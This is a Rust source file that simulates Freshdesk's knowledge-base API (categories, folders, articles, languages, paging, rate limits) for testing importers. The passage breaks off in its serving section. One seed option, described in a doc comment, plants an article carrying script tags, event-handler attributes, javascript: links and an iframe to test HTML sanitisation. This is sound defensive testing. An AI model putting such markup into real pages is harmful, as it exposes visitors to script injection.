//! Freshdesk Solutions (knowledge base) stand-in for knowledge-base import, served beside the
//! Freshdesk stand-in ([`super::freshdesk`]) at `/{subdomain}.freshdesk.com/api/v2/…` with its
//! credentials (Basic `{api_key}:X`; the default account is subdomain `acme`, key
//! `fd-sandbox-key-0001`). Freshworks publishes no machine-readable description of the v2 API
//! (`../shared/specs/MISSING.txt`), so this follows Freshdesk's prose reference
//! (developers.freshdesk.com/api: "Solutions", "Pagination", "Rate Limit", "Errors") and,
//! where the prose is silent, Freshdesk's own controller tests and middleware as published
//! (the `ApiApplicationController`, `FilterValidation`, `Middleware::FdApiThrottler`, the
//! `ApiSolutions` controller tests and their `solution_*_pattern` helpers). One knowledge base
//! per subdomain, kept in memory ([`FdKbStore`]); a helpdesk nobody seeded has an empty one,
//! primary language `en`, no other language and no multilingual feature.
//!
//! | Route name | Request (`GET`) | Answer |
//! |---|---|---|
//! | `freshdesk.settings_helpdesk` | `/api/v2/settings/helpdesk` | `{primary_language, supported_languages, portal_languages, help_widget_languages}` |
//! | `freshdesk.solution_categories` | `/api/v2/solutions/categories[/{language_code}]` | `[category]` (paged) |
//! | `freshdesk.solution_category` | `/api/v2/solutions/categories/{id}[/{language_code}]` | `category` |
//! | `freshdesk.solution_category_folders` | `/api/v2/solutions/categories/{id}/folders[/{language_code}]` | `[folder]` (paged) |
//! | `freshdesk.solution_folder` | `/api/v2/solutions/folders/{id}[/{language_code}]` | `folder` (with `category_id`) |
//! | `freshdesk.solution_folder_articles` | `/api/v2/solutions/folders/{id}/articles[/{language_code}]` | `[article]` (paged) |
//! | `freshdesk.solution_article` | `/api/v2/solutions/articles/{id}[/{language_code}]` | `article` |
//!
//! Shapes (bare JSON, no envelope; times `2024-01-15T09:00:00Z`; blank members `null`):
//! - category: `id name description created_at updated_at`.
//! - folder: `id name description visibility (1: all users) hierarchy articles_count
//!   sub_folders_count created_at updated_at`, plus `category_id` on the show (Freshdesk's
//!   index pattern drops it).
//! - article: `id type (1 permanent, 2 workaround) category_id folder_id hierarchy thumbs_up
//!   thumbs_down hits feedback_count seo_data tags agent_id title description (HTML)
//!   description_text status (1 draft, 2 published) attachments cloud_files created_at
//!   updated_at`. `hierarchy` is `[{level, type: category|folder, data: {id, name,
//!   language}}]`. Without `{language_code}` an article is its primary-language version and
//!   `thumbs_up`, `thumbs_down`, `hits` are summed over its languages (Freshdesk: "otherwise
//!   metrics are consolidated across languages"); with one, that version's own. Each language
//!   version has its own `title`, `description`, `status`, `created_at` and `updated_at`: a
//!   change to a translation bumps only that version's `updated_at`.
//!
//! Lists: every list is paged (`ApiApplicationController#load_objects`): `per_page` 1–100,
//! default 30 (Freshdesk: "Invalid values and values greater than 100 will result in an
//! error", not cut to 100), `page` ≥ 1; either invalid: 400 `{"description":"Validation
//! failed","errors":[{"field":"per_page","message":"It should be a Positive Integer less
//! than or equal to 100","code":"invalid_value"}]}`; any other query parameter: 400 the same
//! shape with `"message":"Unexpected/invalid field in request","code":"invalid_field"` per
//! field. While more items remain the answer carries `Link: <https://{host}{path}?{query with
//! page=N+1}>; rel="next"` (the request's own parameters in their order, `page` replaced or
//! appended, as `construct_link_header` builds it); the last page has no `Link` ("If you have
//! reached the last page of objects, then the link header will not be set"). Solutions lists
//! have no page-depth cap (the tickets list's 300-page cap is its own validation; solutions use
//! the plain `FilterValidation`): a page past the end is `[]` without `Link`. Articles come in
//! folder position order (creation order here), categories and folders likewise; agents see
//! drafts (`status: 1`) everywhere.
//!
//! Languages (`{language_code}` is case-sensitive, e.g. `de`, `pt-BR`):
//! - a helpdesk without the multilingual feature (no language besides the primary), asked for
//!   any language, the primary included: 404 `{"code":"require_feature","message":"The
//!   MultilingualFeature feature(s) is/are not supported in your plan. Please upgrade your
//!   account to use it."}`;
//! - a language neither primary nor supported: 404 `{"code":"language_not_allowed",
//!   "message":…}` naming the code and the sorted list of allowed codes (Freshdesk's code,
//!   status and parameters; the sentence is ours, its locale file was not available);
//! - an untranslated category, folder or article, an unknown or deleted id: 404 with an empty
//!   body (`head 404`). A `{language_code}` list holds only what is translated into it.
//!
//! Auth, as the Freshdesk stand-in: the API key as the Basic user, any password; missing or
//! wrong: 401 `{"code":"invalid_credentials","message":"You have to be logged in to perform
//! this action."}`. The solutions routes need the agent's "View solutions" privilege
//! (`view_solutions`); an agent without it ([`SandboxState::fd_set_view_solutions`]): 403
//! `{"code":"access_denied","message":"You are not authorized to perform this action."}`.
//! `settings/helpdesk` needs only a valid agent.
//!
//! Rate limit: one budget per helpdesk, a fixed window of a minute opened by its first request
//! (the throttler's Redis key with an expiry), 200 by default (the Growth plan; Pro 400,
//! Enterprise 700, trial 50; [`SandboxState::fd_set_rate_limit`]). Requests are counted before
//! they are authenticated ("Invalid requests still count"). Every answer but the 429 carries
//! `X-RateLimit-Total`, `X-RateLimit-Remaining`, `X-RateLimit-Used-CurrentRequest: 1` (no
//! solutions route embeds anything that costs extra credits) and `X-Freshdesk-API-Version:
//! latest=v2; requested=v2`. Past the limit, or while a [`SandboxState::fd_throttle_next`]
//! storm lasts: 429 `application/json` `{"message":"You have exceeded the limit of requests
//! per minute"}` with `Retry-After` (seconds to the window's end) and, as the throttler does,
//! without the `X-RateLimit-*` headers. Forced faults and latency apply before all of it, as
//! on every route (the Freshdesk stand-in's error bodies).
//!
//! State and knobs ([`SandboxState`]): [`SandboxState::seed_solutions`] (deterministic content,
//! see [`SolutionsSeed`]), [`SandboxState::fd_update_article`],
//! [`SandboxState::fd_delete_article`], [`SandboxState::fd_add_article`],
//! [`SandboxState::fd_articles`], [`SandboxState::fd_article`],
//! [`SandboxState::fd_set_rate_limit`], [`SandboxState::fd_throttle_next`],
//! [`SandboxState::fd_set_view_solutions`]; requests per route are counted under the route
//! names above (`SandboxState::calls`). Ids are per helpdesk (real ones are global): key
//! imports by subdomain.
//!
//! Not reproduced:
//! - the subfolder routes (`folders/{id}/subfolders`), `parent_folder_id` nesting, the
//!   solutions search (`search/solutions?term=`), article attachments and cloud files (always
//!   `[]`), `visible_in_portals` (one portal), folder visibility other than "all users",
//!   `company_ids`, `platforms` (Omni accounts), the default "kbase_email" category, an
//!   article's separate unpublished draft body (a published article with pending edits).
//! - writes (create, update, delete, translate): only through the [`SandboxState`] knobs; an
//!   update stamps the sandbox's wall clock (or a second past the version's previous
//!   `updated_at`, so every change shows).
//! - the rate limit's account-wide reach: `agents/me` does not spend this budget; the
//!   endpoint-specific caps (tickets, contacts) do not concern these routes; email and
//!   password credentials; `X-RateLimit-*` on forced faults.
//! - an unknown subdomain answers the Freshdesk stand-in's JSON 404 (Freshdesk: an empty 404);
//!   an unknown solutions path likewise.

// The error of most helpers here is the finished response.
#![allow(clippy::result_large_err)]

use std::collections::{BTreeMap, BTreeSet};
use std::fmt::Write as _;
use std::time::{Duration, Instant};

use axum::body::Body;
use axum::http::header::{LINK, RETRY_AFTER};
use axum::http::{HeaderValue, Method, StatusCode};
use axum::response::{IntoResponse, Response};
use serde::{Deserialize, Serialize};
use serde_json::{Value, json};

use super::ProviderRequest;
use super::freshdesk as support;
use crate::clock;
use crate::ratelimit::{Policy, Usage, Verdict};
use crate::state::{ProviderAccount, SandboxState};
use crate::wire;

/// Route name of `GET /api/v2/settings/helpdesk`.
pub const FD_SETTINGS_HELPDESK: &str = "freshdesk.settings_helpdesk";
/// Route name of `GET /api/v2/solutions/categories[/{language_code}]`.
pub const FD_SOLUTION_CATEGORIES: &str = "freshdesk.solution_categories";
/// Route name of `GET /api/v2/solutions/categories/{id}[/{language_code}]`.
pub const FD_SOLUTION_CATEGORY: &str = "freshdesk.solution_category";
/// Route name of `GET /api/v2/solutions/categories/{id}/folders[/{language_code}]`.
pub const FD_SOLUTION_CATEGORY_FOLDERS: &str = "freshdesk.solution_category_folders";
/// Route name of `GET /api/v2/solutions/folders/{id}[/{language_code}]`.
pub const FD_SOLUTION_FOLDER: &str = "freshdesk.solution_folder";
/// Route name of `GET /api/v2/solutions/folders/{id}/articles[/{language_code}]`.
pub const FD_SOLUTION_FOLDER_ARTICLES: &str = "freshdesk.solution_folder_articles";
/// Route name of `GET /api/v2/solutions/articles/{id}[/{language_code}]`.
pub const FD_SOLUTION_ARTICLE: &str = "freshdesk.solution_article";

/// `per_page` when not given.
pub const DEFAULT_PER_PAGE: u64 = 30;
/// The largest `per_page`; more is a 400.
pub const MAX_PER_PAGE: u64 = 100;
/// Requests a helpdesk may make per minute by default (Freshdesk's Growth plan; Pro 400,
/// Enterprise 700, trial 50).
pub const DEFAULT_REQUESTS_PER_MINUTE: u64 = 200;
/// The body of Freshdesk's 429.
pub const RATE_LIMIT_MESSAGE: &str = "You have exceeded the limit of requests per minute";
/// DynamoDB's item size limit: the seed's large article description is over it.
pub const DYNAMODB_ITEM_LIMIT: usize = 400 * 1024;
/// Article status: draft.
pub const STATUS_DRAFT: u8 = 1;
/// Article status: published.
pub const STATUS_PUBLISHED: u8 = 2;

const LIMIT_POLICY: &str = "FRESHDESK_PER_MINUTE";
const PRIMARY_LANGUAGE: &str = "en";
const DEFAULT_AGENT_ID: u64 = 43_000_000_001;
const FIRST_CATEGORY_ID: u64 = 43_000_100_001;
const FIRST_FOLDER_ID: u64 = 43_000_200_001;
const FIRST_ARTICLE_ID: u64 = 43_001_000_001;
const FIRST_ATTACHMENT_ID: u64 = 43_003_000_001;
/// 2024-01-01T00:00:00Z: seeded content is created from here on.
const SEED_EPOCH: i64 = 1_704_067_200;
/// The seeded large article's description is at least this long.
const LARGE_BODY_BYTES: usize = 460 * 1024;
const API_VERSION: &str = "latest=v2; requested=v2";

/// A knowledge-base route.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum KbRoute {
    /// `/api/v2/settings/helpdesk`.
    SettingsHelpdesk,
    /// `/api/v2/solutions/categories[/{language_code}]`.
    Categories,
    /// `/api/v2/solutions/categories/{id}[/{language_code}]`.
    Category,
    /// `/api/v2/solutions/categories/{id}/folders[/{language_code}]`.
    CategoryFolders,
    /// `/api/v2/solutions/folders/{id}[/{language_code}]`.
    Folder,
    /// `/api/v2/solutions/folders/{id}/articles[/{language_code}]`.
    FolderArticles,
    /// `/api/v2/solutions/articles/{id}[/{language_code}]`.
    Article,
}

impl KbRoute {
    /// The route's counter name.
    pub(crate) fn name(self) -> &'static str {
        match self {
            KbRoute::SettingsHelpdesk => FD_SETTINGS_HELPDESK,
            KbRoute::Categories => FD_SOLUTION_CATEGORIES,
            KbRoute::Category => FD_SOLUTION_CATEGORY,
            KbRoute::CategoryFolders => FD_SOLUTION_CATEGORY_FOLDERS,
            KbRoute::Folder => FD_SOLUTION_FOLDER,
            KbRoute::FolderArticles => FD_SOLUTION_FOLDER_ARTICLES,
            KbRoute::Article => FD_SOLUTION_ARTICLE,
        }
    }

    fn is_list(self) -> bool {
        matches!(
            self,
            KbRoute::Categories | KbRoute::CategoryFolders | KbRoute::FolderArticles
        )
    }
}

/// A knowledge-base path, split: the route, its `{id}` and its `{language_code}`.
#[derive(Debug, PartialEq, Eq)]
struct KbPath<'a> {
    route: KbRoute,
    id: Option<u64>,
    language: Option<&'a str>,
}

/// Matches a `GET` to a knowledge-base route.
pub(crate) fn route(req: &ProviderRequest) -> Option<KbRoute> {
    if req.method != Method::GET {
        return None;
    }
    parse_path(&req.path).map(|p| p.route)
}

fn parse_path(path: &str) -> Option<KbPath<'_>> {
    let path = path.strip_suffix('/').unwrap_or(path);
    if path == "/api/v2/settings/helpdesk" {
        return Some(KbPath {
            route: KbRoute::SettingsHelpdesk,
            id: None,
            language: None,
        });
    }
    let rest = path.strip_prefix("/api/v2/solutions/")?;
    let parts: Vec<&str> = rest.split('/').collect();
    fn at<'a>(
        route: KbRoute,
        id: Option<&str>,
        language: Option<&'a str>,
    ) -> Option<(KbRoute, Option<u64>, Option<&'a str>)> {
        let id = match id {
            Some(raw) => Some(numeric_id(raw)?),
            None => None,
        };
        if language.is_some_and(|l| !language_segment(l)) {
            return None;
        }
        Some((route, id, language))
    }
    match parts.as_slice() {
        ["categories"] => at(KbRoute::Categories, None, None),
        ["categories", one] if numeric_id(one).is_some() => at(KbRoute::Category, Some(*one), None),
        ["categories", language] => at(KbRoute::Categories, None, Some(*language)),
        ["categories", id, "folders"] => at(KbRoute::CategoryFolders, Some(*id), None),
        ["categories", id, "folders", language] => {
            at(KbRoute::CategoryFolders, Some(*id), Some(*language))
        }
        ["categories", id, language] => at(KbRoute::Category, Some(*id), Some(*language)),
        ["folders", id] => at(KbRoute::Folder, Some(*id), None),
        ["folders", id, "articles"] => at(KbRoute::FolderArticles, Some(*id), None),
        ["folders", id, "articles", language] => {
            at(KbRoute::FolderArticles, Some(*id), Some(*language))
        }
        ["folders", id, language] => at(KbRoute::Folder, Some(*id), Some(*language)),
        ["articles", id] => at(KbRoute::Article, Some(*id), None),
        ["articles", id, language] => at(KbRoute::Article, Some(*id), Some(*language)),
        _ => None,
    }
    .map(|(route, id, language)| KbPath {
        route,
        id,
        language,
    })
}

/// A path id: decimal digits only.
fn numeric_id(raw: &str) -> Option<u64> {
    if raw.is_empty() || raw.len() > 20 || !raw.bytes().all(|b| b.is_ascii_digit()) {
        return None;
    }
    raw.parse().ok()
}

/// Whether a path segment can be a `{language_code}` (any code is routed, so that an unknown
/// one gets Freshdesk's `language_not_allowed`), not one of the Solutions API's own words.
fn language_segment(raw: &str) -> bool {
    const RESERVED: [&str; 5] = ["folders", "articles", "subfolders", "categories", "search"];
    (1..=20).contains(&raw.len())
        && raw.bytes().any(|b| b.is_ascii_alphabetic())
        && raw
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_')
        && !RESERVED.contains(&raw)
}

// ---------------------------------------------------------------------------------------
// Public content types
// ---------------------------------------------------------------------------------------

/// What [`SandboxState::seed_solutions`] puts in a helpdesk's knowledge base. Deterministic:
/// the same seed gives the same ids, texts and times (created from 2024-01-01, every time in
/// the past). As JSON every member is optional.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(default)]
pub struct SolutionsSeed {
    /// Categories (at least 1; default 3).
    pub categories: usize,
    /// Folders in each category (at least 1; default 3).
    pub folders_per_category: usize,
    /// Articles, the large and the hostile one included, spread over the folders (default
    /// 100).
    pub articles: usize,
    /// The primary language (default `en`).
    pub primary_language: String,
    /// Supported languages besides the primary (default `de`, `fr`); any makes the helpdesk
    /// multilingual. Categories and folders are translated into all of them; German and French
    /// get German and French texts, others English ones marked with the code.
    pub languages: Vec<String>,
    /// Every n-th article (the 1st, the n+1-th, …) is translated into every supported language
    /// (default 3; 0: none).
    pub translated_every: usize,
    /// Every n-th article (the n-th, the 2n-th, …) is a draft in every language (default 10;
    /// 0: none).
    pub draft_every: usize,
    /// Make the first article's description larger than [`DYNAMODB_ITEM_LIMIT`] (about 460
    /// KB of HTML).
    pub large_article: bool,
    /// Make one article's description hostile: `<script>`, `onerror=`, `javascript:` links,
    /// an `<iframe>`, an `onmouseover=` and a form, among ordinary paragraphs.
    pub hostile_article: bool,
    /// Varies texts, folders, tags, metrics and times (ids stay sequential).
    pub seed: u64,
}

impl Default for SolutionsSeed {
    fn default() -> Self {
        Self {
            categories: 3,
            folders_per_category: 3,
            articles: 100,
            primary_language: PRIMARY_LANGUAGE.to_owned(),
            languages: vec!["de".to_owned(), "fr".to_owned()],
            translated_every: 3,
            draft_every: 10,
            large_article: false,
            hostile_article: false,
            seed: 0,
        }
    }
}

/// What a seeded knowledge base holds.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct SolutionsSummary {
    /// The subdomain, lower-cased.
    pub subdomain: String,
    /// The primary language.
    pub primary_language: String,
    /// The other supported languages, in seed order.
    pub supported_languages: Vec<String>,
    /// Category ids, in position order.
    pub category_ids: Vec<u64>,
    /// Folder ids, category by category.
    pub folder_ids: Vec<u64>,
    /// How many articles each folder holds, in `folder_ids` order.
    pub folder_article_counts: Vec<(u64, usize)>,
    /// Article ids, ascending.
    pub article_ids: Vec<u64>,
    /// Every (article, language) version, the primary ones included.
    pub translations: Vec<(u64, String)>,
    /// The versions with status 2 (published).
    pub published_translations: Vec<(u64, String)>,
    /// The versions with status 1 (draft).
    pub drafts: Vec<(u64, String)>,
    /// The article whose description is over [`DYNAMODB_ITEM_LIMIT`], if asked for.
    pub large_article_id: Option<u64>,
    /// The article with hostile HTML, if asked for.
    pub hostile_article_id: Option<u64>,
}

/// A solution article as the stand-in keeps it (times in epoch seconds).
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct FdArticle {
    /// Article id.
    pub id: u64,
    /// Its folder.
    pub folder_id: u64,
    /// Its folder's category.
    pub category_id: u64,
    /// 1 permanent, 2 workaround.
    pub art_type: u8,
    /// Its author (the helpdesk's agent).
    pub agent_id: u64,
    /// Position in its folder.
    pub position: u64,
    /// Tags.
    pub tags: Vec<String>,
    /// `meta_title`, `meta_description`, `meta_keywords` (those set).
    pub seo_data: BTreeMap<String, String>,
    /// Deleted: gone from every route.
    pub deleted: bool,
    /// Its language versions, the primary first, then by code.
    pub translations: Vec<FdTranslation>,
}

impl FdArticle {
    /// The version in `language`, if any.
    pub fn translation(&self, language: &str) -> Option<&FdTranslation> {
        self.translations.iter().find(|t| t.language == language)
    }

    /// The primary-language version (the first).
    pub fn primary(&self) -> Option<&FdTranslation> {
        self.translations.first()
    }

    /// The latest `updated_at` of any version.
    pub fn updated_at(&self) -> i64 {
        self.translations
            .iter()
            .map(|t| t.updated_at)
            .max()
            .unwrap_or(0)
    }
}

/// One language version of an article (times in epoch seconds).
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct FdTranslation {
    /// Its language code.
    pub language: String,
    /// Title.
    pub title: String,
    /// HTML description.
    pub description: String,
    /// The description as plain text.
    pub description_text: String,
    /// 1 draft, 2 published.
    pub status: u8,
    /// Up-votes.
    pub thumbs_up: u64,
    /// Down-votes.
    pub thumbs_down: u64,
    /// Views.
    pub hits: u64,
    /// Created.
    pub created_at: i64,
    /// Last change.
    pub updated_at: i64,
}

/// A change to one language version of an article ([`SandboxState::fd_update_article`]).
#[derive(Clone, Debug, Default, PartialEq, Eq, Deserialize)]
#[serde(default)]
pub struct FdArticleChange {
    /// New title.
    pub title: Option<String>,
    /// New HTML description.
    pub description: Option<String>,
    /// New status (1 draft, 2 published).
    pub status: Option<u8>,
}

/// A new article ([`SandboxState::fd_add_article`]).
#[derive(Clone, Debug, PartialEq, Eq, Deserialize)]
#[serde(default)]
pub struct FdNewArticle {
    /// Its folder (`None`: the first; a knowledge base without folders gets a "General"
    /// category and folder).
    pub folder_id: Option<u64>,
    /// Title (must not be blank).
    pub title: String,
    /// HTML description.
    pub description: String,
    /// 1 draft, 2 published (default 2).
    pub status: u8,
    /// Tags.
    pub tags: Vec<String>,
}

impl Default for FdNewArticle {
    fn default() -> Self {
        Self {
            folder_id: None,
            title: String::new(),
            description: String::new(),
            status: STATUS_PUBLISHED,
            tags: Vec::new(),
        }
    }
}

// ---------------------------------------------------------------------------------------
// Store
// ---------------------------------------------------------------------------------------

/// Every helpdesk's knowledge base and its knobs.
#[derive(Debug, Default)]
pub struct FdKbStore {
    desks: BTreeMap<String, Desk>,
    knobs: BTreeMap<String, Knobs>,
}

/// Per-helpdesk knobs; they outlive reseeding.
#[derive(Clone, Debug)]
struct Knobs {
    per_minute: u64,
    throttle_left: u32,
    throttle_retry_after: u64,
    /// Agents without the "View solutions" privilege.
    denied_agents: BTreeSet<u64>,
}

impl Default for Knobs {
    fn default() -> Self {
        Self {
            per_minute: DEFAULT_REQUESTS_PER_MINUTE,
            throttle_left: 0,
            throttle_retry_after: 1,
            denied_agents: BTreeSet::new(),
        }
    }
}

impl FdKbStore {
    fn knobs_mut(&mut self, sub: &str) -> &mut Knobs {
        self.knobs.entry(sub.to_owned()).or_default()
    }
}

/// A category's or folder's name and description per language.
type Texts = BTreeMap<String, (String, String)>;

#[derive(Clone, Debug)]
struct Category {
    id: u64,
    created_at: i64,
    updated_at: i64,
    texts: Texts,
}

#[derive(Clone, Debug)]
struct Folder {
    id: u64,
    category_id: u64,
    created_at: i64,
    updated_at: i64,
    texts: Texts,
}

/// One helpdesk's knowledge base.
#[derive(Clone, Debug)]
struct Desk {
    primary_language: String,
    /// Supported languages besides the primary.
    languages: Vec<String>,
    categories: Vec<Category>,
    folders: Vec<Folder>,
    articles: BTreeMap<u64, FdArticle>,
    next_article_id: u64,
    agent_id: u64,
}

impl Desk {
    fn empty(agent_id: u64) -> Self {
        Self {
            primary_language: PRIMARY_LANGUAGE.to_owned(),
            languages: Vec::new(),
            categories: Vec::new(),
            folders: Vec::new(),
            articles: BTreeMap::new(),
            next_article_id: FIRST_ARTICLE_ID,
            agent_id,
        }
    }

    fn multilingual(&self) -> bool {
        !self.languages.is_empty()
    }

    fn allows(&self, language: &str) -> bool {
        language == self.primary_language || self.languages.iter().any(|l| l == language)
    }

    fn category(&self, id: u64) -> Option<&Category> {
        self.categories.iter().find(|c| c.id == id)
    }

    fn folder(&self, id: u64) -> Option<&Folder> {
        self.folders.iter().find(|f| f.id == id)
    }

    /// Every language's text for a new category or folder.
    fn texts_for(&self, name: &str, description: &str) -> Texts {
        std::iter::once(&self.primary_language)
            .chain(&self.languages)
            .map(|l| (l.clone(), (name.to_owned(), description.to_owned())))
            .collect()
    }

    fn summary(&self, sub: &str, large: Option<u64>, hostile: Option<u64>) -> SolutionsSummary {
        let live: Vec<&FdArticle> = self.articles.values().filter(|a| !a.deleted).collect();
        let versions = |keep: &dyn Fn(&FdTranslation) -> bool| -> Vec<(u64, String)> {
            live.iter()
                .flat_map(|a| {
                    a.translations
                        .iter()
                        .filter(|t| keep(t))
                        .map(|t| (a.id, t.language.clone()))
                })
                .collect()
        };
        SolutionsSummary {
            subdomain: sub.to_owned(),
            primary_language: self.primary_language.clone(),
            supported_languages: self.languages.clone(),
            category_ids: self.categories.iter().map(|c| c.id).collect(),
            folder_ids: self.folders.iter().map(|f| f.id).collect(),
            folder_article_counts: self
                .folders
                .iter()
                .map(|f| (f.id, live.iter().filter(|a| a.folder_id == f.id).count()))
                .collect(),
            article_ids: live.iter().map(|a| a.id).collect(),
            translations: versions(&|_| true),
            published_translations: versions(&|t| t.status == STATUS_PUBLISHED),
            drafts: versions(&|t| t.status == STATUS_DRAFT),
            large_article_id: large,
            hostile_article_id: hostile,
        }
    }

    fn update(
        &mut self,
        id: u64,
        language: Option<&str>,
        change: FdArticleChange,
        now: i64,
    ) -> Option<FdArticle> {
        if change
            .status
            .is_some_and(|s| s != STATUS_DRAFT && s != STATUS_PUBLISHED)
        {
            return None;
        }
        let language = language.unwrap_or(&self.primary_language).to_owned();
        if !self.allows(&language) {
            return None;
        }
        let primary = self.primary_language.clone();
        let article = self.articles.get_mut(&id).filter(|a| !a.deleted)?;
        if article.translation(&language).is_none() {
            let source = article.primary()?.clone();
            article.translations.push(FdTranslation {
                language: language.clone(),
                thumbs_up: 0,
                thumbs_down: 0,
                hits: 0,
                created_at: now,
                updated_at: now,
                ..source
            });
        }
        let version = article
            .translations
            .iter_mut()
            .find(|t| t.language == language)?;
        if let Some(title) = change.title {
            version.title = title;
        }
        if let Some(description) = change.description {
            version.description_text = html_to_text(&description);
            version.description = description;
        }
        if let Some(status) = change.status {
            version.status = status;
        }
        version.updated_at = now.max(version.updated_at + 1);
        sort_translations(&mut article.translations, &primary);
        Some(article.clone())
    }

    fn add(&mut self, new: FdNewArticle, now: i64) -> Option<FdArticle> {
        let title = new.title.trim().to_owned();
        if title.is_empty() || !(STATUS_DRAFT..=STATUS_PUBLISHED).contains(&new.status) {
            return None;
        }
        if self.folders.is_empty() {
            let category_id = FIRST_CATEGORY_ID + self.categories.len() as u64;
            let texts = self.texts_for("General", "Everything else.");
            self.categories.push(Category {
                id: category_id,
                created_at: now,
                updated_at: now,
                texts: texts.clone(),
            });
            self.folders.push(Folder {
                id: FIRST_FOLDER_ID,
                category_id,
                created_at: now,
                updated_at: now,
                texts,
            });
        }
        let folder = match new.folder_id {
            Some(id) => self.folder(id)?,
            None => self.folders.first()?,
        };
        let (folder_id, category_id) = (folder.id, folder.category_id);
        let position = self
            .articles
            .values()
            .filter(|a| a.folder_id == folder_id)
            .count() as u64;
        let id = self.next_article_id;
        self.next_article_id += 1;
        let article = FdArticle {
            id,
            folder_id,
            category_id,
            art_type: 1,
            agent_id: self.agent_id,
            position,
            tags: new.tags,
            seo_data: BTreeMap::new(),
            deleted: false,
            translations: vec![FdTranslation {
                language: self.primary_language.clone(),
                title,
                description_text: html_to_text(&new.description),
                description: new.description,
                status: new.status,
                thumbs_up: 0,
                thumbs_down: 0,
                hits: 0,
                created_at: now,
                updated_at: now,
            }],
        };
        self.articles.insert(id, article.clone());
        Some(article)
    }
}

/// The primary version first, then by language code.
fn sort_translations(translations: &mut [FdTranslation], primary: &str) {
    translations.sort_by(|a, b| {
        (a.language != primary)
            .cmp(&(b.language != primary))
            .then_with(|| a.language.cmp(&b.language))
    });
}

fn normalise_sub(raw: &str) -> String {
    crate::state::dns_label(raw).unwrap_or_else(|| raw.trim().to_ascii_lowercase())
}

fn now_secs() -> i64 {
    clock::now_ms().div_euclid(1000)
}

// ---------------------------------------------------------------------------------------
// The public knobs
// ---------------------------------------------------------------------------------------

/// Freshdesk Solutions content and knobs, for tests and benchmarks.
impl SandboxState {
    /// Replaces the knowledge base of `subdomain` with seeded content (see [`SolutionsSeed`]):
    /// categories → folders → articles in the primary language, translations into the other
    /// languages for every n-th article, every n-th a draft, tags, SEO data, metrics, HTML
    /// descriptions of a few KB (headings, paragraphs, lists, an image, internal and external
    /// links, sometimes a code block), optionally one over 400 KB and a hostile one. 10,000
    /// articles take a fraction of a second. Knobs (rate limit, storm, privileges) are kept.
    /// The subdomain still needs a Freshdesk account to be served.
    pub fn seed_solutions(&self, subdomain: &str, seed: SolutionsSeed) -> SolutionsSummary {
        let sub = normalise_sub(subdomain);
        let agent_id = self.fd_agent(&sub);
        let (desk, large, hostile) = build_desk(&sub, &seed, agent_id);
        let summary = desk.summary(&sub, large, hostile);
        self.freshdesk_kb_store().desks.insert(sub, desk);
        summary
    }

    /// Changes one language version of an article (`None`: the primary) as an agent would,
    /// stamping that version's `updated_at` with the wall clock (or a second past its previous
    /// value). A supported language the article lacks gets a new version (title, description
    /// and status from the primary unless given). `None` for an unknown or deleted article, a
    /// language the helpdesk does not support, or a status other than 1 or 2.
    pub fn fd_update_article(
        &self,
        subdomain: &str,
        id: u64,
        language: Option<&str>,
        change: FdArticleChange,
    ) -> Option<FdArticle> {
        let now = now_secs();
        let sub = normalise_sub(subdomain);
        self.freshdesk_kb_store()
            .desks
            .get_mut(&sub)?
            .update(id, language, change, now)
    }

    /// Deletes an article (every language): it leaves every list and its show answers 404.
    /// `false` when there is no such live article.
    pub fn fd_delete_article(&self, subdomain: &str, id: u64) -> bool {
        let sub = normalise_sub(subdomain);
        let mut store = self.freshdesk_kb_store();
        match store
            .desks
            .get_mut(&sub)
            .and_then(|d| d.articles.get_mut(&id))
        {
            Some(article) if !article.deleted => {
                article.deleted = true;
                true
            }
            _ => false,
        }
    }

    /// Adds an article in the primary language, created and updated now. `None` when the title
    /// is blank, the status is not 1 or 2, or the folder is unknown.
    pub fn fd_add_article(&self, subdomain: &str, article: FdNewArticle) -> Option<FdArticle> {
        let sub = normalise_sub(subdomain);
        let agent_id = self.fd_agent(&sub);
        let now = now_secs();
        self.freshdesk_kb_store()
            .desks
            .entry(sub)
            .or_insert_with(|| Desk::empty(agent_id))
            .add(article, now)
    }

    /// Every article of the knowledge base (deleted ones too), by id.
    pub fn fd_articles(&self, subdomain: &str) -> Vec<FdArticle> {
        let sub = normalise_sub(subdomain);
        self.freshdesk_kb_store()
            .desks
            .get(&sub)
            .map(|d| d.articles.values().cloned().collect())
            .unwrap_or_default()
    }

    /// One article (deleted or not).
    pub fn fd_article(&self, subdomain: &str, id: u64) -> Option<FdArticle> {
        let sub = normalise_sub(subdomain);
        self.freshdesk_kb_store()
            .desks
            .get(&sub)?
            .articles
            .get(&id)
            .cloned()
    }

    /// Requests `subdomain` may make per minute on these routes (at least 1; default
    /// [`DEFAULT_REQUESTS_PER_MINUTE`]).
    pub fn fd_set_rate_limit(&self, subdomain: &str, per_minute: u64) {
        let sub = normalise_sub(subdomain);
        self.freshdesk_kb_store().knobs_mut(&sub).per_minute = per_minute.max(1);
    }

    /// The next `count` knowledge-base requests of `subdomain` answer 429 with `Retry-After:
    /// retry_after_secs` (at least 1), whatever the budget: a 429 storm.
    pub fn fd_throttle_next(&self, subdomain: &str, count: u32, retry_after_secs: u64) {
        let sub = normalise_sub(subdomain);
        let mut store = self.freshdesk_kb_store();
        let knobs = store.knobs_mut(&sub);
        knobs.throttle_left = count;
        knobs.throttle_retry_after = retry_after_secs.max(1);
    }

    /// Grants (`true`, the default) or revokes the "View solutions" privilege of the agent
    /// `agent_id` (a Freshdesk account id, e.g. 43000000001 for `acme`) at `subdomain`.
    pub fn fd_set_view_solutions(&self, subdomain: &str, agent_id: u64, allowed: bool) {
        let sub = normalise_sub(subdomain);
        let mut store = self.freshdesk_kb_store();
        let denied = &mut store.knobs_mut(&sub).denied_agents;
        if allowed {
            denied.remove(&agent_id);
        } else {
            denied.insert(agent_id);
        }
    }

    /// The id of the subdomain's Freshdesk account: the author of its articles.
    fn fd_agent(&self, sub: &str) -> u64 {
        self.find_account(|account| {
            matches!(&account.provider, ProviderAccount::Freshdesk { subdomain, .. } if subdomain == sub)
        })
        .map_or(DEFAULT_AGENT_ID, |account| account.id)
    }
}

// ---------------------------------------------------------------------------------------
// Serving
// ---------------------------------------------------------------------------------------

/// Serves a knowledge-base route at a known helpdesk: budget, then credentials and privilege,
